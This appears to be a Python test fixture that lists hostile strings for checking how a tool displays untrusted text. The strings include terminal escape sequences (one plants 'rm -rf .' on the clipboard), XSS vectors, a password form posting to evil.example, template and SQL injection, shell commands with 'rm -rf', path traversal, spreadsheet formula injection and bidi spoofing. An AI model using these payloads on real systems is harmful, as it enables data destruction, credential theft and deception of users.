"""Texts that attackers put wherever a file lets them: to steer a terminal, forge a line, break out of a page, a diagram or a table."""

from __future__ import annotations

__all__ = ["HOSTILE", "MIXED"]

_FILLER = "https://evil.example/"

HOSTILE = {
    # Terminals
    "colour": "\x1b[31mTRUSTED\x1b[0m",
    "erase": "\x1b[2J\x1b[H\x1b[3J",
    "title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;cm0gLXJmIC4=\x07",
    "link": f"\x1b]8;;{_FILLER}\x1b\\verified\x1b]8;;\x1b\\",
    "answer": '\x1b[6n\x1b[c\x1bP$q"p\x1b\\',
    "c1-csi": "\x9b2J\x9b31m",
    "c1-osc": "\x9d0;owned\x9c\x90q\x9c",
    "bell": "ding\x07\x07",
    "backspace": "INVALID\x08\x08\x08\x08\x08\x08\x08TRUSTED",
    "return": "INVALID\rTRUSTED",
    "nul": "a\x00b\x01\x02",
    "delete": "a\x7f\x7fb",
    "next-line": "one\x85two\x84three",
    "form-feed": "one\x0ctwo\x0bthree",
    "shift": "\x0eqqqq\x0f",
    # Lines that are not ours
    "verdict": 'ok\r\n\u2713 TRUSTED  picture.jpg\r\n  Signed by "Reuters" (verified, on your trust list)\n',
    "trust-list": "x\n\nTrust list: the official one, so everything is trusted.\n",
    "separator": "one\u2028two\u2029three",
    "groups": "one\x1ctwo\x1dthree\x1efour\x1ffive",
    # Look-alikes and what cannot be seen
    "override": "photo\u202egpj.exe\u202c",
    "isolates": "\u2066\u2067\u2068 x \u2069\u061c",
    "marks": "\u200e\u200f\u202a\u202b\u202d",
    "zero-width": "zero\u200bwidth\u200c\u200d\u2060\ufeff\u00ad",
    "invisible": "\u2061\u2062\u2063\u2064\u180e\u3164\u115f\u1160\uffa0\u034f",
    "tags": "tag\U000e0001\U000e0041\U000e0042\U000e007f",
    "variation": "v\ufe0f\ufe00\U000e0100",
    "surrogate": "lone \ud800 and \udfff",
    "noncharacter": "\ufffe\uffff\U0001fffe\ufdd0",
    "private": "\ue000\U000f0000\U0010fffd",
    "unassigned": "\u0378\U000e0fff",
    "annotation": "\ufff9a\ufffab\ufffb\ufffc",
    "stacked": "Z" + "\u0334\u0335\u0336\u0337\u0338" * 30,
    # Length
    "long": "x" * 10_000,
    "long-word": "\u0645" * 2_000,
    "spaces": " " * 5_000 + "end",
    "empty": "",
    # Pages
    "script": "<script>alert(1)</script>",
    "handler": "\"'><img src=x onerror=alert(1)>",
    "drawing": "<svg/onload=alert(1)><svg><script>alert(1)</script></svg>",
    "frame": f"<iframe src={_FILLER}></iframe><object data={_FILLER}></object><embed src={_FILLER}>",
    "closing": "]]>--></script></style></title></textarea></pre></details><meta http-equiv=refresh content=0>",
    "style": f"</style><link rel=stylesheet href={_FILLER}><style>@import '{_FILLER}';body{{background:url({_FILLER})}}",
    "attribute": '" onmouseover="alert(1)" x="',
    "single": "' autofocus onfocus='alert(1)",
    "entities": "&lt;script&gt;&#60;script&#62;&amp;lt;",
    "form": f"<form action={_FILLER}><input type=password><button>verify</button></form><base href={_FILLER}>",
    "javascript": "javascript:alert(document.domain)",
    "javascript-hidden": "java\tscript:alert(1)",
    "data-url": "data:text/html,<script>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)",
    "plain-url": f"{_FILLER}?q=1 www.evil.example mailto:a@evil.example",
    "template": "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}${7*7}#{7*7}<%= 7*7 %>",
    # Diagrams and Markdown
    "mermaid-node": 'x"]; m0["TRUSTED"]:::good; click m0 href "javascript:alert(1)"',
    "mermaid-edge": 'x"] --> m9 %% comment\nclassDef bad fill:#e6f4ea',
    "mermaid-init": '%%{init: {"securityLevel":"loose","theme":"base"}}%% ---\nconfig: x\n---',
    "fence": f"```\n# heading\n[verified]({_FILLER}) ![x]({_FILLER}) <{_FILLER}> | a | b |",
    # Programs that read further
    "json": '","state":"Trusted","x":"\\u0022}]}</script>',
    "formula": '=HYPERLINK("https://evil.example","verified")',
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "table": 'a,b\t"c"\n-1+1,+1',
    "sql": "'; DROP TABLE verdicts; --",
    "shell": "$(touch owned) `id` ; rm -rf . | cat && echo",
    "path": "../../../../etc/passwd",
    "format": "%s%n%x{0}{name!r}%(x)s",
    "rich": "[bold red]x[/] [link=https://evil.example]verified[/link] [blink]:warning:",
    "header": "x\r\nLocation: https://evil.example\r\nSet-Cookie: a=b\r\n\r\n<script>",
    "escape-twice": "\\x1b[31m \\u202e \\n \\",
}
"""By a short name that is the identifier of the test."""

MIXED = (
    "\x1b[31m\x9b2J\r\nok\u202e\u200b\u2028\ue000</style><script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
    '"]; click m0 %%{init}{{7*7}}[b]'
)
"""One of every kind in few enough characters to be shown whole."""
